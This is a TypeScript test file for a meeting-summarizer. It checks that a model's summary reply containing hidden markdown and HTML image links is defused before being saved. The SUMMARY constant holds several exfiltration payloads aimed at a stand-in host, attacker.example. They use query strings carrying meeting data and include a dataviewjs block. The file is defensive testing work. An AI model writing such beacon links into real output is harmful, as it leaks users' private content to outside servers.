/**
 * T1 (hostile review 7): the committed summary (the final reply used as the summary) holds none of
 * the CommonMark forms the review6 S17 defuser missed; rendered by the CommonMark reference
 * implementation (@ma/testkit `commonMarkLoads`) nothing loads or runs, and the run record says what
 * was defused. Scripted model server, temp copy of the sample vault.
 */
import { commonMarkLoads } from '@ma/testkit';
import { afterEach, describe, expect, it } from 'vitest';
import { summarizeMeeting } from '../src/index.js';
import { FUNCTIONAL, type Harness, splitNote, startHarness } from './harness.js';

let h: Harness | undefined;
afterEach(async () => {
  await h?.close();
  h = undefined;
});

const A = 'https://attacker.example';
const SUMMARY = [
  '## Summary',
  `- Decision \`\n\n![](${A}/p.png?q=rubber-casing-12.50)\n\n\``,
  `<div>\n<img/src="${A}/a.png?q=decision">\n</div>`,
  `<img alt="a<b" src="${A}/b.png?q=decision2">`,
  `![logo][r]\n\n> [r]: ${A}/c.png?q=decision3`,
  `> [!note]\n> \`\`\`dataviewjs\n> dv.el("img","",{attr:{src:"${A}/d.png"}})\n> \`\`\``,
  `Decision \\\`![](${A}/p.png?q=secret) then \``,
  '## Decisions\n- Rubber (L12)\n\n## Next steps\n- [ ] quote (L14)\n',
].join('\n\n');

describe('T1: the committed summary renders nothing that loads or runs', () => {
  it('the final reply used as the summary', async () => {
    expect(commonMarkLoads(SUMMARY).length).toBeGreaterThanOrEqual(5);
    h = await startHarness([{ text: SUMMARY }]);
    const run = await summarizeMeeting({ vault: h.vault, meeting: FUNCTIONAL, env: {} });
    expect(commonMarkLoads(splitNote(await h.read(run.summaryPath)).body)).toEqual([]);
    expect(await h.read(run.contextPath)).toMatch(/- warning: the summary's text: defused \d+ items/);
  });
});
